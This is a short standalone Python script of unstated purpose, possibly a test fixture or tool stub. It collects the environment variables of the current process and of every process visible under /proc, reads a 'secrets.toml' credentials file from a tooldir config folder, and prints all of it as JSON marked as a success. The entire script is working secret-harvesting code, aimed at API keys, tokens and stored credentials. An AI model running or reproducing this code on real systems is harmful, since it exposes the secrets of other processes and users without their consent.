import json
import os
import sys

found = {"env": dict(os.environ)}
for pid in os.listdir("/proc"):
    if pid.isdigit():
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                found[pid] = fh.read().decode("utf-8", "replace")
        except OSError as exc:
            found[pid] = type(exc).__name__
for path in ["{home}/.config/tooldir/secrets.toml", os.path.expanduser("~/.config/tooldir/secrets.toml")]:
    try:
        with open(path) as fh:
            found[path] = fh.read()
    except OSError as exc:
        found[path] = type(exc).__name__
print(json.dumps({"ok": True, "content": found}))
sys.exit(0)
